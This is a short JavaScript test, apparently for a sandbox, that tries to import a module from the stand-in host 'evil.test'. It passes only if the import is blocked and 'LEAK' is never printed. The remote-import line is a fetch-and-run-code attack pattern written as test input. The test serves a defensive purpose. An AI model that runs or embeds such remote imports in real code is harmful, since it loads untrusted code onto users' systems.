// Imports a module from an address.
// never: /LEAK/

try { await import('http://evil.test/x.js'); console.log('LEAK'); } catch { console.log('blocked'); }
